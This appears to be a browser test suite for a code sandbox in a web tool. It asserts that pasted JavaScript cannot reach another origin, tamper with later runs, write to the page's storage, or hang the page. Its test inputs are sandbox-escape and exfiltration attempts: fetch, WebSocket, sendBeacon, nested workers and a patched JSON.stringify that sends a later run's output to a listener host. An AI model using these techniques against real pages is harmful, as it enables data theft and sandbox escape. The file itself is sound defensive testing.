// Pasted JavaScript is hostile, and `Function('return this')()` hands it the real global of
// whatever runs it. The browser, not the harness, keeps it in: each run gets a fresh Web Worker
// started from a `blob:` URL inside a sandboxed, opaque-origin iframe (dist/js-sandbox.html) whose
// own Content-Security-Policy allows no connection and no script but blob: and eval. So:
// - no way out reaches a listener on another port of 127.0.0.1, during the run or after it;
// - a run cannot observe or forge the next one (listeners, patched built-ins, globals, timers);
// - nothing is written to the page origin's storage (IndexedDB, Cache Storage, OPFS);
// - an endless loop is still stopped after 5 s, and the page answers meanwhile.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { listen, newPage, plantedProbes, ranWith, screenshot, servedApp, setCode } from './support.mjs';

const app = servedApp('/tools/shardlane/');


/** A put first, with a key of its own: its record on screen says this run has ended. */
const put = (key) => `const AWS = require('aws-sdk');\n`
  + `await new AWS.Kinesis().putRecord({ StreamName: 's', PartitionKey: '${key}', Data: 'x' }).promise();\n`;

async function openSeed(page) {
  await page.goto(app.server.url);
  await page.locator('#records-table tbody tr').nth(7).waitFor();
}

// Each way out, after a put. Every attempt goes through the real global, as hostile code would,
// and is wrapped so that a refusal is just swallowed: only the listener decides.
const GLOBAL = "const g = Function('return this')();\n";
const quietly = (code) => `try { ${code} } catch {}\n`;
const ATTEMPTS = (url) => [
  { name: 'import() inside an indirect eval', code: quietly(`(0, eval)('import("${url}/eval-import").catch(() => {})');`) },
  { name: 'import() built by Function', code: quietly(`Function('return import("${url}/function-import")')().catch(() => {});`) },
  { name: 'fetch of the real global', code: GLOBAL + quietly(`g.fetch('${url}/fetch').catch(() => {});`) },
  {
    name: 'XMLHttpRequest of the real global',
    code: GLOBAL + quietly(`const r = new g.XMLHttpRequest(); r.open('GET', '${url}/xhr'); r.send();`),
  },
  { name: 'WebSocket of the real global', code: GLOBAL + quietly(`new g.WebSocket('${url.replace('http', 'ws')}/websocket');`) },
  { name: 'EventSource of the real global', code: GLOBAL + quietly(`new g.EventSource('${url}/eventsource');`) },
  { name: 'importScripts of the real global', code: GLOBAL + quietly(`g.importScripts('${url}/importScripts');`) },
  {
    name: 'a nested worker from a blob: URL',
    code: GLOBAL + quietly(`new g.Worker(g.URL.createObjectURL(new g.Blob([
      "fetch('${url}/nested-fetch').catch(() => {}); import('${url}/nested-import').catch(() => {});"
    ], { type: 'text/javascript' })), { type: 'module' });`),
  },
  { name: 'a nested worker from the listener', code: GLOBAL + quietly(`new g.Worker('${url}/nested-worker');`) },
  { name: 'navigator.sendBeacon', code: GLOBAL + quietly(`g.navigator.sendBeacon('${url}/beacon', 'data');`) },
  {
    name: 'a real timer that imports after the run returned',
    code: GLOBAL + quietly(`g.setTimeout.call(g, () => { (0, eval)('import("${url}/late-import").catch(() => {})'); }, 1500);`),
  },
];

test('the page itself still works: the seed renders and a JavaScript producer runs, with no console error', async () => {
  const page = await newPage(app.browser);
  await openSeed(page);
  await setCode(page, put('plain'));
  await ranWith(page, 'plain');
  assert.equal(await page.locator('#records-table tbody tr').count(), 1);
  await screenshot(page, 'javascript-sandboxed-1280x800');
  assert.deepEqual(app.browser.errors, []);
});

test('JavaScript code cannot reach another origin, during its run or after it', async (t) => {
  const listener = await listen(app.browser);
  try {

    const page = await newPage(app.browser);
    await openSeed(page);
    for (const [index, attempt] of ATTEMPTS(listener.url).entries()) {
      const key = `attempt-${index}`;
      await setCode(page, `${put(key)}${attempt.code}`);
      await ranWith(page, key);
      const errors = await page.locator('.diagnostics .error').allTextContents();
      t.diagnostic(`${attempt.name}: ${errors.join(' | ') || 'no error'}; listener so far: ${listener.seen.join(', ') || 'nothing'}`);
    }
    await screenshot(page, 'javascript-containment-1280x800');
    // Timers and asynchronous attempts would fire after their run: give them time to arrive.
    await page.waitForTimeout(3_000);
    assert.deepEqual(listener.seen, [], 'the listener saw no request');
  } finally {
    await listener.close();
  }
});

test('a run cannot observe, forge or outlive into the next run', async () => {
  const listener = await listen(app.browser);
  try {
    const page = await newPage(app.browser);
    await openSeed(page);
    const send = (what) => `(0, eval)('import(' + JSON.stringify('${listener.url}/' + ${what}) + ').catch(() => {})')`;
    // Script 1 takes whatever the real global gives it.
    await setCode(page, `${put('first')}const g = Function('return this')();
try { g.addEventListener('message', (event) => { try { ${send("'message?' + encodeURIComponent(JSON.stringify(event.data).slice(0, 300))")}; } catch {} }); } catch {}
try { g.onmessage = (event) => { try { ${send("'onmessage?' + encodeURIComponent(String(event.data && event.data.code))")}; } catch {} }; } catch {}
const stringify = JSON.stringify;
JSON.stringify = function (value, ...rest) {
  // Its own run's answer goes out as it is; a later run's would be forged.
  if (value && Array.isArray(value.records) && value.records.some((r) => r.partition_key !== 'first')) {
    try { ${send("'stringify?' + encodeURIComponent(value.console)")}; } catch {}
    return stringify.call(JSON, { ...value, console: 'FORGED', records: value.records.map((r) => ({ ...r, partition_key: 'forged' })) });
  }
  return stringify.call(JSON, value, ...rest);
};
g.shardlaneLeftover = 'leftover';
Object.prototype.shardlaneTaint = 'tainted';
try { g.setInterval.call(g, () => { try { ${send("'interval'")}; } catch {} }, 200); } catch {}
`);
    await ranWith(page, 'first');
    // Script 2 carries a secret, and says what it sees of script 1.
    await setCode(page, `${put('second')}const secret = 'AKIA-SECRET-1234567890';
const g = Function('return this')();
console.log(typeof g.shardlaneLeftover, typeof ({}).shardlaneTaint, typeof g.onmessage === 'function');
`);
    await ranWith(page, 'second');
    await page.waitForTimeout(2_000);
    const keys = await page.locator('#records-table td.key').allTextContents();
    assert.deepEqual(keys, ['second'], 'the second run\'s own record, not a forged one');
    assert.equal(await page.locator('#console').textContent(), 'undefined undefined false\n',
      'no global, prototype change or handler of the first run is seen by the second');
    assert.deepEqual(listener.seen, [], 'nothing of either run reached the listener');
  } finally {
    await listener.close();
  }
});

test('JavaScript code writes nothing to the page origin\'s storage', async (t) => {
  const page = await newPage(app.browser);
  await openSeed(page);
  await setCode(page, `${put('storage')}const g = Function('return this')();
const outcomes = [];
const note = (name) => (error) => outcomes.push(name + ': ' + (error && error.name));
try {
  const request = g.indexedDB.open('shardlane-probe', 1);
  request.onupgradeneeded = () => request.result.createObjectStore('planted').put('x', 'k');
  request.onerror = () => outcomes.push('indexedDB: ' + request.error?.name);
} catch (error) { note('indexedDB')(error); }
try { await g.caches.open('shardlane-probe').then((cache) => cache.put(new g.Request('/planted'), new g.Response('planted'))); } catch (error) { note('caches')(error); }
try {
  const root = await g.navigator.storage.getDirectory();
  const file = await root.getFileHandle('shardlane-probe', { create: true });
  const handle = await file.createSyncAccessHandle();
  handle.write(new TextEncoder().encode('planted'));
  handle.flush();
  handle.close();
} catch (error) { note('OPFS')(error); }
console.log(outcomes.join('\\n'));
`);
  await ranWith(page, 'storage');
  t.diagnostic(`the code saw: ${(await page.locator('#console').allTextContents()).join('').replace(/\n/g, '; ')}`);
  await page.waitForTimeout(1_000);
  assert.deepEqual(await plantedProbes(page), [], 'no database, cache or file of the page origin was written');
});

test('an endless loop is stopped after 5 s, the page answering meanwhile, and the next run works', async () => {
  const page = await newPage(app.browser);
  await openSeed(page);
  await setCode(page, `${put('loop')}while (true) {}\n`);
  await page.locator('#run-status.busy').waitFor({ timeout: 10_000 });
  // The busy mark is drawn, not a glyph: a machine without an emoji font showed a box.
  assert.equal(await page.locator('#run-status.busy').evaluate((el) => getComputedStyle(el, '::before').content), '""');
  await page.fill('#batch-size', '9');
  assert.equal(await page.inputValue('#batch-size'), '9', 'the page answers while the worker spins');
  const status = page.locator('#run-status.error');
  await status.waitFor({ timeout: 30_000 });
  assert.match(await status.textContent(), /Stopped after 5 s/);
  await setCode(page, put('after'));
  await ranWith(page, 'after');
});

test('a run holding 4 GiB ends in a clear error with its worker, the page answering, and the next run works', async () => {
  const page = await newPage(app.browser);
  await openSeed(page);
  // The browser may refuse the memory (a RangeError at the line) or grant it: a fast machine fills
  // 4 GiB well within the limit, so the run then holds it and spins until the 5 s limit ends the
  // worker, and its memory with it. Either way the run ends clearly.
  await setCode(page, `${put('memory')}const chunks = [];\nfor (let i = 0; i < 4; i++) chunks.push(new Uint8Array(2 ** 30).fill(1));\nwhile (chunks.length) {}\n`);
  const error = page.locator('.diagnostics .error, #run-status.error');
  await error.first().waitFor({ timeout: 30_000 });
  assert.match(await error.first().textContent(), /^line 4: RangeError|^Stopped after 5 s/);
  await page.fill('#batch-size', '9');
  assert.equal(await page.inputValue('#batch-size'), '9', 'the page answers');
  await setCode(page, put('after'));
  await ranWith(page, 'after');
});

test('the sandbox page serves only its own parent, and only as an opaque origin', async () => {
  const sandbox = new URL('js-sandbox.html', app.server.url).href;
  const run = { id: 1, code: "console.log('ran')", options: '{}' };
  /** Frames the sandbox in `page` (with `sandbox` flags or none), posts a run, and lists what came back. */
  const frameAndAsk = (page, flags) => page.evaluate(async ([src, flags, run]) => {
    const frame = document.createElement('iframe');
    if (flags !== null) frame.setAttribute('sandbox', flags);
    frame.src = src;
    const heard = [];
    window.addEventListener('message', (event) => { if (event.source === frame.contentWindow) heard.push(event.data); });
    document.body.append(frame);
    await new Promise((resolve) => { frame.onload = resolve; });
    frame.contentWindow.postMessage(run, '*');
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    return heard;
  }, [sandbox, flags, run]);

  // Another origin (localhost is not 127.0.0.1) frames it as the page does: it hears nothing and
  // its run is not taken.
  const foreign = await newPage(app.browser);
  await foreign.goto(app.server.url.replace('127.0.0.1', 'localhost').replace('/tools/shardlane/', '/elsewhere'));
  assert.deepEqual(await frameAndAsk(foreign, 'allow-scripts'), []);

  // The page's own origin without the sandbox attribute: refused, since its worker would share
  // the origin's storage.
  const page = await newPage(app.browser);
  await openSeed(page);
  const heard = await frameAndAsk(page, null);
  assert.equal(heard.length, 1, JSON.stringify(heard));
  assert.equal(heard[0].type, 'failed');
  assert.match(heard[0].message, /sandboxed, opaque-origin frame/);
});
